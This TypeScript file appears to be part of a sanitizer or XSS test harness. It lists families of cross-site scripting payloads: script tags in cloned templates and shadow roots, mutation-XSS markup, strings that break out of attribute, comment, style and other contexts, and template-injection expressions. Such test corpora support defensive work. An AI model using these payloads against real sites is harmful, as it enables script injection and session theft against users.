import { contexts, family, type Context, type Vector } from "./vector.ts";

/** Scripts run when a template's clone is inserted. */
const SCRIPTS = [
  "<script>%</script>",
  "<SCRIPT>%</SCRIPT>",
  "<script\n>%</script\t\n foo>",
  "<script/x>%</script>",
  "<script type=text/javascript>%</script>",
  "<script type=' text/javascript '>%</script>",
  "<script type=application/ecmascript>%</script>",
  "<script language=javascript1.2>%</script>",
  "<script type=module>%</script>",
  "<script type=module async>%</script>",
  "<script async src=data:text/javascript,%></script>",
  "<script defer src=data:,%></script>",
  "<script type=module src=data:text/javascript,%></script>",
  "<script src='data:text/javascript;base64,{program}'></script>",
  "<script src=/none.js onerror=%></script>",
  "<script src=data:, onload=%></script>",
  "<script><!--\n%\n--></script>",
  "<script>/*<![CDATA[*/%/*]]>*/</script>",
  "<svg><script>%</script></svg>",
  "<svg><script href=data:text/javascript,% /></svg>",
  "<svg><script xlink:href=data:text/javascript,% /></svg>",
  "<svg><script>&#116;op.fired(#)</script></svg>",
  "<svg><desc><script>%</script></desc></svg>",
  "<svg><foreignObject><script>%</script></foreignObject></svg>",
  "<math><mtext><script>%</script></mtext></math>",
  "<table><script>%</script></table>",
  "<select><script>%</script></select>",
  "<p><b><i><script>%</script></p>",
  "<div><template shadowrootmode=open shadowrootclonable><script>%</script></template></div>",
  "<div><template shadowrootmode=open shadowrootclonable><b onclick=%>x</b></template></div>",
  "<section><template shadowrootmode=closed shadowrootclonable><script>%</script></template></section>",
  "<p><template shadowrootmode=closed shadowrootclonable><img src=/none onerror=%></template></p>",
  "<x-shop><template shadowrootmode=closed shadowrootclonable><img src=/none onerror=%></template></x-shop>",
  "<div><template shadowrootmode=open shadowrootclonable><div><template shadowrootmode=closed shadowrootclonable><script>%</script></template></div></template></div>",
];

/** Markup that is another after it has been written out and read again. */
const MUTATED = [
  "<svg></p><style><a id='</style><img src=/none onerror=%>'>",
  "<math></p><style><!--</style><img src=/none onerror=%>-->",
  "<form><math><mtext></form><form><mglyph><style></math><img src=/none onerror=%>",
  "<svg><title><style><!--</style><img src=/none onerror=%></title>--></svg>",
  "<noembed><img title='</noembed><img src=/none onerror=%>'></noembed>",
  "<noframes><img title='</noframes><img src=/none onerror=%>'></noframes>",
];

/** What ends the context that a text stands in. */
const ENDS: Record<Context, string[]> = {
  double: [
    '"><img src=/none onerror=%>',
    '" onmouseover="%',
    '" autofocus tabindex=0 onfocus="%',
    '"/onclick=%//',
  ],
  single: ["'><img src=/none onerror=%>", "' onmouseover='%", "'/onclick=%//"],
  bare: ["x onclick=%", "><img src=/none onerror=%>"],
  comment: ["--><img src=/none onerror=%>", "--!><svg onload=%>"],
  textarea: ["</textarea><img src=/none onerror=%>", "</TEXTAREA\n><svg onload=%>"],
  title: ["</title><img src=/none onerror=%>", "</title/><svg onload=%>"],
  style: ["</style><img src=/none onerror=%>", "}</style ><svg onload=%>"],
  script: ["</script><img src=/none onerror=%>", "<!--</script x><svg onload=%>"],
  noscript: ["</noscript><img src=/none onerror=%>"],
  template: ["</template><img src=/none onerror=%>"],
  iframe: ["</iframe><img src=/none onerror=%>"],
  xmp: ["</xmp><img src=/none onerror=%>"],
  svgTitle: ["</title></svg><img src=/none onerror=%>", "<img src=/none onerror=%>"],
  cdata: ["]]></svg><img src=/none onerror=%>"],
  select: ["</option></select><img src=/none onerror=%>"],
  handler: ["';%;'", "'+%+'", "&#39;;%;&#39;", "&apos;-%-&apos;"],
  link: ['"onclick="%', '" onpointerdown=%//'],
};

/** Texts that end a text of a program, or that a careless template language works out. */
const PROGRAMS = [
  "';%;'",
  '";%;"',
  "'-%-'",
  '"-%-"',
  "'+%+'",
  "`+%+`",
  "${%}",
  "${top['fired'](#)}",
  "{{%}}",
  "{{constructor.constructor('%')()}}",
  "{{[].constructor.constructor('%')()}}",
  "{{$on.constructor('%')()}}",
  "{%}",
  "{constructor.constructor('%')()}",
  "{profile.name|';%;'}",
  "[[%]]",
  "%",
  "(()=>%)()",
  "*/%/*",
  "\n%\n",
  "\u2028%",
  "1;%",
  "0)||%||(0",
  "true and %",
];

const spelled = Object.keys(contexts) as Context[];

export const scripts: Vector[] = [
  ...family("scripts in a clone", "clone", SCRIPTS),
  ...family("markup that changes when read again", "twice", MUTATED),
  ...spelled.flatMap((context) => family(`ends of ${context}`, context, ENDS[context])),
  ...family("texts that become programs", "program", PROGRAMS),
];
